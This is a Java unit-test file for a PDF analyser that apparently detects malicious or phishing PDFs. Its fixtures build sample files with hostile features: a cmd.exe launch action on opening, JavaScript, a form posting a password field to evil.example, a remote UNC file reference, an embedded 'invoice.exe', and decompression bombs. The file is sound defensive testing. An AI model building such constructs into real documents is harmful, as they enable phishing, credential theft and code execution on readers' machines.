package kanshiki.pdf;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.zxing.qrcode.decoder.ErrorCorrectionLevel;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import kanshiki.image.CodeArt;
import kanshiki.image.GeneratedCode;
import kanshiki.pdf.PdfFile.Action;
import kanshiki.pdf.PdfFile.Cut;
import kanshiki.pdf.PdfFile.Kind;
import kanshiki.pdf.PdfFile.Unread;
import org.junit.jupiter.api.Test;

class PdfFileTest {
  private static final String LINK = "https://login.evil.example/k?u=7";
  private static final String FONT =
      "/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>";

  @Test
  void findsLinks() {
    byte[] pdf =
        TestPdf.page(
                "",
                "",
                "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ("
                    + LINK
                    + ") >> >>")
            .bytes();

    PdfFile file = PdfFile.read(pdf);

    assertThat(file.unread()).isEmpty();
    assertThat(file.pages()).isEqualTo(1);
    assertThat(file.actions()).containsExactly(new Action(Kind.URI, LINK, false));
    assertThat(file.cuts()).isEmpty();
  }

  @Test
  void findsWhatHappensOnOpening() {
    byte[] pdf =
        new TestPdf()
            .add("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
            .add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
            .add("<< /Type /Page /AA << /O << /S /Launch /F (cmd.exe) >> >> >>")
            .add(
                "<< /S /JavaScript /JS (app.alert\\(1\\)) /Next << /S /URI /URI (http://x.test/) >> >>")
            .bytes();

    assertThat(PdfFile.read(pdf).actions())
        .containsExactlyInAnyOrder(
            new Action(Kind.LAUNCH, "cmd.exe", true),
            new Action(Kind.JAVASCRIPT, "app.alert(1)", true),
            new Action(Kind.URI, "http://x.test/", true));
  }

  @Test
  void findsFormsAndWhereTheySend() {
    byte[] pdf =
        new TestPdf()
            .add("<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>")
            .add("<< /Type /Pages /Kids [] /Count 0 >>")
            .add("<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/post) >> >>")
            .add("<< /FT /Tx /T (password) /A 3 0 R >>")
            .add("<< /S /GoToR /F (\\\\\\\\203.0.113.5\\\\a.pdf) >>")
            .add("<< /S /ImportData /F (x.fdf) >>")
            .bytes();

    PdfFile file = PdfFile.read(pdf);

    assertThat(file.hasForm()).isTrue();
    assertThat(file.actions())
        .contains(
            new Action(Kind.SUBMIT_FORM, "https://evil.example/post", false),
            new Action(Kind.OTHER_DOCUMENT, "\\\\203.0.113.5\\a.pdf", false),
            new Action(Kind.IMPORT_DATA, "x.fdf", false));
  }

  @Test
  void takesOutEmbeddedFiles() {
    byte[] pdf =
        TestPdf.page("", "")
            .deflated("/Type /EmbeddedFile", "MZ...".getBytes(StandardCharsets.US_ASCII))
            .add("<< /Type /Filespec /UF (invoice.exe) /EF << /F 5 0 R >> >>")
            .bytes();

    List<PdfFile.Embedded> files = PdfFile.read(pdf).files();

    assertThat(files).hasSize(1);
    assertThat(files.getFirst().name()).isEqualTo("invoice.exe");
    assertThat(files.getFirst().bytes()).asString().isEqualTo("MZ...");
  }

  @Test
  void readsWordsInLines() {
    String content =
        "BT /F1 12 Tf 50 700 Td (Dear customer,) Tj 0 -14 Td [(please v) 20 (isit) -400 (https://evil.example/a)] TJ"
            + " T* (now) Tj ET";

    assertThat(PdfFile.read(TestPdf.page(content, FONT).bytes()).text())
        .isEqualTo("Dear customer,\nplease visit https://evil.example/a\nnow\n");
  }

  @Test
  void readsJapaneseWordsByTheirMap() {
    String map =
        "1 beginbfchar <0001> <91CD> endbfchar 1 beginbfrange <0002> <0003> [<8981> <306A>] endbfrange";
    byte[] pdf =
        TestPdf.page("BT /F1 12 Tf <000100020003> Tj ET", "/Font << /F1 5 0 R >>")
            .add(
                "<< /Type /Font /Subtype /Type0 /Encoding /Identity-H /ToUnicode 6 0 R"
                    + " /DescendantFonts [<< /DW 1000 >>] >>")
            .deflated("", map.getBytes(StandardCharsets.US_ASCII))
            .bytes();

    assertThat(PdfFile.read(pdf).text()).isEqualTo("\u91cd\u8981\u306a\n");
  }

  @Test
  void readsJapaneseWordsOfAKnownEncoding() {
    String hex = "82a8 8b71 976c".replace(" ", "");
    byte[] pdf =
        TestPdf.page("BT /F1 12 Tf <" + hex + "> Tj ET", "/Font << /F1 5 0 R >>")
            .add(
                "<< /Type /Font /Subtype /Type0 /Encoding /90ms-RKSJ-H /DescendantFonts [<< >>] >>")
            .bytes();

    assertThat(PdfFile.read(pdf).text()).isEqualTo("\u304a\u5ba2\u69d8\n");
  }

  @Test
  void readsCodesInPictures() {
    GeneratedCode code = GeneratedCode.of(1);

    assertThat(codes(TestPdf.picture(code.image(), new byte[0]).bytes()))
        .containsExactly(code.text());
    assertThat(codes(TestPdf.picture(code.image(), GeneratedCode.jpeg(code.image(), 0.8f)).bytes()))
        .containsExactly(code.text());
  }

  @Test
  void readsCodesInMasksAndInlineImages() {
    var bits = CodeArt.modules(LINK);
    int side = bits.getWidth() * 4;
    var rows = new byte[(side + 7) / 8 * side];
    for (int y = 0; y < side; y++) {
      for (int x = 0; x < side; x++) {
        if (!bits.get(x / 4, y / 4)) {
          rows[y * ((side + 7) / 8) + x / 8] |= (byte) (0x80 >> x % 8);
        }
      }
    }
    byte[] mask =
        TestPdf.page("/M Do", "/XObject << /M 5 0 R >>")
            .deflated(
                "/Subtype /Image /ImageMask true /Width %d /Height %d".formatted(side, side), rows)
            .bytes();
    assertThat(codes(mask)).containsExactly(LINK);

    String hex = java.util.HexFormat.of().formatHex(rows);
    String inline = "BI /W %d /H %d /BPC 1 /CS /G /F /AHx ID %s> EI Q".formatted(side, side, hex);
    assertThat(codes(TestPdf.page(inline, "").bytes())).containsExactly(LINK);
  }

  @Test
  void readsCodesDrawnWithRectangles() {
    var bits = GeneratedCode.encode(LINK, 0, ErrorCorrectionLevel.M);

    for (String transform :
        List.of(
            "1 0 0 1 50 500", "0.9 0.2 -0.2 0.9 300 300", "0 1 -1 0 400 400", "2 0 0 -2 0 500")) {
      String page =
          "BT /F1 9 Tf (Scan) Tj ET 0.9 g 0 0 600 30 re f 0 g "
              + TestPdf.rectangles(bits, 3, transform);
      assertThat(codes(TestPdf.page("BT ET " + page, FONT).bytes()))
          .as(transform)
          .containsExactly(LINK);
    }
  }

  @Test
  void readsCodesWithinForms() {
    var bits = GeneratedCode.encode(LINK, 0, ErrorCorrectionLevel.M);
    byte[] pdf =
        TestPdf.page("q 2 0 0 2 9 9 cm /Fm Do Q", "/XObject << /Fm 5 0 R >>")
            .deflated(
                "/Subtype /Form /BBox [0 0 99 99]",
                TestPdf.rectangles(bits, 1, "1 0 0 1 0 0").getBytes(StandardCharsets.US_ASCII))
            .bytes();

    PdfFile file = PdfFile.read(pdf);

    assertThat(file.codes()).hasSize(1);
    assertThat(file.codes().getFirst().drawn()).isTrue();
    assertThat(file.codes().getFirst().page()).isEqualTo(1);
  }

  @Test
  void saysThatAPasswordIsNeeded() throws IOException {
    assertThat(PdfFile.read(TestPdf.encrypted("open")).unread()).contains(Unread.PASSWORD);

    PdfFile opens = PdfFile.read(TestPdf.encrypted(""));
    assertThat(opens.unread()).isEmpty();
    assertThat(opens.encrypted()).isTrue();
    assertThat(opens.pages()).isEqualTo(1);
  }

  @Test
  void tellsWhatIsNoPdf() {
    assertThat(PdfFile.read(new byte[0]).unread()).contains(Unread.NOT_A_PDF);
    assertThat(PdfFile.read("%PDF-1.4\nnothing".getBytes(StandardCharsets.US_ASCII)).unread())
        .contains(Unread.BROKEN);
  }

  @Test
  void readsAFileWithoutCrossReferences() {
    String whole =
        new String(
            TestPdf.page("", "", "<< /S /URI /URI (http://x.test/) >>").bytes(),
            StandardCharsets.ISO_8859_1);
    String broken = whole.substring(0, whole.indexOf("xref")) + "trailer << /Root 1 0 R >>";

    PdfFile file = PdfFile.read(broken.getBytes(StandardCharsets.ISO_8859_1));

    assertThat(file.actions()).hasSize(1);
    assertThat(file.pages()).isEqualTo(1);
  }

  @Test
  void stopsAtManyPages() {
    var pdf = new TestPdf().add("<< /Type /Catalog /Pages 2 0 R >>");
    var kids = new StringBuilder();
    for (int i = 0; i < 1_000; i++) {
      kids.append(3 + i).append(" 0 R ");
    }
    pdf.add("<< /Type /Pages /Kids [" + kids + "] >>");
    for (int i = 0; i < 1_000; i++) {
      pdf.add("<< /Type /Page /Contents 1003 0 R /Resources << " + FONT + " >> >>");
    }
    pdf.stream("", "BT /F1 9 Tf (page) Tj ET".getBytes(StandardCharsets.US_ASCII));

    PdfFile file = PdfFile.read(pdf.bytes());

    assertThat(file.pages()).isEqualTo(1_000);
    assertThat(file.text()).hasSizeLessThan(200);
    assertThat(file.cuts()).containsExactly(Cut.PAGES);
  }

  @Test
  void leavesLoops() {
    byte[] pdf =
        new TestPdf()
                .add("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
                .add("<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] >>")
                .add("<< /Type /Page /Contents 5 0 R /Resources << /XObject << /F 5 0 R >> >> >>")
                .add("<< /S /URI /URI (http://x.test/) /Next 4 0 R >>")
                .stream(
                    "/Subtype /Form /Resources << /XObject << /F 5 0 R >> >>",
                    "/F Do /F Do /F Do /F Do ".getBytes(StandardCharsets.US_ASCII))
                .bytes();

    PdfFile file = PdfFile.read(pdf);

    assertThat(file.pages()).isEqualTo(1);
    assertThat(file.cuts()).containsExactly(Cut.WORK);
  }

  @Test
  void stopsStreamsThatUnfoldToGigabytes() throws IOException {
    byte[] bomb = twice(1 << 30);
    PdfFile once =
        PdfFile.read(
            TestPdf.page("/Im Do", "/XObject << /Im 5 0 R >>").stream(
                    "/Subtype /Image /Width 5000 /Height 4000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter [/FlateDecode /LZWDecode]",
                    bomb)
                .bytes());
    assertThat(once.pages()).isEqualTo(1);

    byte[] content = TestPdf.deflate(new byte[60 << 20]);
    PdfFile page =
        PdfFile.read(
            new TestPdf()
                    .add("<< /Type /Catalog /Pages 2 0 R >>")
                    .add("<< /Type /Pages /Kids [3 0 R] >>")
                    .add("<< /Type /Page /Contents 4 0 R >>")
                    .stream("/Filter /FlateDecode", content)
                    .bytes());
    assertThat(page.cuts()).containsExactly(Cut.STREAM);

    byte[] objects =
        new TestPdf()
            .add("<< /Type /Catalog /Pages 2 0 R >>").add("<< /Type /Pages /Kids [] >>").stream(
                    "/Type /XRef /W [1 4 2] /Index [0 9] /Root 1 0 R /Filter /FlateDecode",
                    TestPdf.deflate(new byte[200 << 20]))
                .bytes();
    String text = new String(objects, StandardCharsets.ISO_8859_1);
    String moved =
        text.substring(0, text.lastIndexOf("startxref"))
            + "startxref\n"
            + text.indexOf("3 0 obj")
            + "\n%%EOF";
    PdfFile xref = PdfFile.read(moved.getBytes(StandardCharsets.ISO_8859_1));
    assertThat(xref.cuts()).isNotEmpty();
  }

  @Test
  void refusesHugePictures() {
    byte[] pdf =
        TestPdf.page("/Im Do", "/XObject << /Im 5 0 R >>")
            .deflated(
                "/Subtype /Image /Width 20000 /Height 20000 /ColorSpace /DeviceGray /BitsPerComponent 8",
                new byte[1 << 20])
            .bytes();

    assertThat(PdfFile.read(pdf).cuts()).containsExactly(Cut.PICTURE_FORMAT);
  }

  @Test
  void refusesPredictorsThatReserveMemory() {
    byte[] pdf =
        TestPdf.page("/Im Do", "/XObject << /Im 5 0 R >>")
            .deflated(
                "/Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceGray /BitsPerComponent 8 /DecodeParms << /Predictor 15 /Columns 2147483600 >>",
                new byte[1 << 20])
            .bytes();

    assertThat(PdfFile.read(pdf).pages()).isEqualTo(1);
  }

  @Test
  void bearsDeepNesting() {
    byte[] pdf =
        TestPdf.page("[".repeat(200_000), "", "[".repeat(300_000), "<< /A ".repeat(100_000))
            .bytes();

    assertThat(PdfFile.read(pdf).unread()).isNotNull();
  }

  @Test
  void bearsBrokenFiles() {
    var random = new Random(11);
    byte[] whole = TestPdf.picture(GeneratedCode.of(5).image(), new byte[0]).bytes();
    for (int i = 0; i < 150; i++) {
      byte[] broken = Arrays.copyOf(whole, 30 + random.nextInt(whole.length - 30));
      for (int j = 0; j < 20; j++) {
        broken[9 + random.nextInt(broken.length - 9)] = (byte) random.nextInt();
      }
      assertThat(PdfFile.read(broken)).isNotNull();
    }
  }

  private static byte[] twice(int size) throws IOException {
    return TestPdf.deflate(TestPdf.deflate(new byte[Math.min(size, 100 << 20)]));
  }

  private static List<String> codes(byte[] pdf) {
    return PdfFile.read(pdf).codes().stream().map(code -> code.code().text()).toList();
  }
}
